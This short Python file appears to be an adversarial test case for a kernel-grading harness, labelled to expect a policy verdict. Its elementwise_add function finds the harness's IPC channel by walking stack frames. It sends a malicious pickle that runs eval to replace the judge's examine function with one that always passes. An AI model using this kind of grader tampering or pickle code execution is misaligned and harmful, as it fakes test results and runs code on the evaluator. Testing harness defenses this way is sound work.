"""EXPECT POLICY; unscreened CRASHED/PROTOCOL from elementwise_add: A3 a bare pickle, as multiprocessing would read it"""

import pickle
import struct
import sys


class Evil:
    def __reduce__(self):
        module = "__import__('importlib').import_module('grader.judge.comparison')"
        return eval, (f"{module}.__dict__.update(examine=lambda *_: (None, 0.0))",)


def elementwise_add(x, y, *, out=None):
    out = x.new_empty(x.shape) if out is None else out
    frame = sys._getframe()
    while "channel" not in frame.f_locals:
        frame = frame.f_back
    body = pickle.dumps(Evil())
    frame.f_locals["channel"].sendall(struct.pack("!i", len(body)) + body)  # Connection.send_bytes
    return out
